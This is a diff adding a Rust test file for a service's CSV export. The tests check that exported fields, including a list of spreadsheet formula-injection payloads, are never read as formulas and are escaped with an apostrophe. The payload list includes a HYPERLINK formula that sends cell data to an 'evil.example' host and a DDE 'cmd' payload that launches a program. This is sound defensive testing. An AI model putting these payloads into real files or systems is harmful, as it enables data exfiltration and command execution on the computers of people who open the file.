@@ -1,0 +1,90 @@
+//! A spreadsheet that obeys formulas shows every text, and evaluates none.
+
+use harness::{World, samples};
+use serde_json::json;
+
+use super::{CSV, TableCall, read_csv};
+
+/// Texts that customers may store, and that spreadsheets are known to run.
+pub(super) const TEXTS: [&str; 22] = [
+    "plain",
+    "",
+    "=1+1",
+    "=HYPERLINK(\"https://evil.example?\"&A1;\"click\")",
+    "=cmd|' /C calc'!A0",
+    "+1-800-555-0100",
+    "-2+3",
+    "-",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\r\n=1+1",
+    "'=1+1",
+    "''",
+    "a,b;c\td",
+    "say \"cheese\"",
+    "line one\nline two",
+    "Größe 中 😀",
+    "12",
+    "-12.5",
+    "1e5",
+    " leading and trailing ",
+];
+
+/// What a spreadsheet makes of a field.
+#[derive(Debug, PartialEq)]
+enum Cell {
+    Text(String),
+    Number(f64),
+    /// What it would run.
+    Formula(String),
+}
+
+/// Reads a field as a careless spreadsheet does: what it does not see as a number or a text it runs.
+fn cell(field: &str) -> Cell {
+    let is_number = |text: &&str| text.bytes().all(|byte| b"+-.0123456789eE".contains(&byte));
+    if let Some(number) = Some(field).filter(is_number).and_then(|text| text.parse().ok()) {
+        return Cell::Number(number);
+    }
+    let run = field.trim_start_matches(['\t', '\r', '\n', ' ']);
+    if run.starts_with(['=', '+', '-', '@']) && !field.starts_with([' ', '\n']) {
+        return Cell::Formula(run.to_owned());
+    }
+    Cell::Text(field.to_owned())
+}
+
+#[test]
+fn the_spreadsheet_runs_what_has_no_apostrophe() {
+    for text in ["=1+1", "+1-800", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\r\n=1"] {
+        assert!(matches!(cell(text), Cell::Formula(_)), "{text:?}");
+        assert_eq!(cell(&format!("'{text}")), Cell::Text(format!("'{text}")));
+    }
+    assert_eq!(cell("-12.5"), Cell::Number(-12.5));
+}
+
+#[tokio::test]
+async fn every_text_is_shown_as_it_was_stored_or_behind_an_apostrophe() {
+    let world = World::new().await;
+    let org = world.org("org_a").await;
+    for text in TEXTS {
+        let mut campaign = samples::campaign();
+        campaign["campaign"] = json!({ "name": text });
+        campaign["customer"]["customer_id"] = json!(-5);
+        let created = world.post("/v2/scenarios/campaigns").key(&org.key).json(&campaign).send().await;
+        assert_eq!(created.status, 200, "{}", created.text());
+        world.clock.advance(1);
+    }
+    let call = TableCall::get("GET /v2/scenarios/campaigns", "?limit=100");
+    let lines = read_csv(&call.answer(&world, &org, CSV).await.body);
+    let column = |name: &str| lines[0].iter().position(|column| column == name).expect("a column");
+    let (name, customer) = (column("campaign.name"), column("customer.customer_id"));
+    // The newest comes first.
+    for (line, text) in lines[1..].iter().zip(TEXTS.iter().rev()) {
+        for field in line {
+            assert!(!matches!(cell(field), Cell::Formula(_)), "{field:?} is run");
+        }
+        assert!(line[name] == *text || line[name] == format!("'{text}"), "{:?} of {text:?}", line[name]);
+        assert_eq!(cell(&line[customer]), Cell::Number(-5.0), "a number has no apostrophe");
+    }
+    assert_eq!(lines.len(), 1 + TEXTS.len());
+}
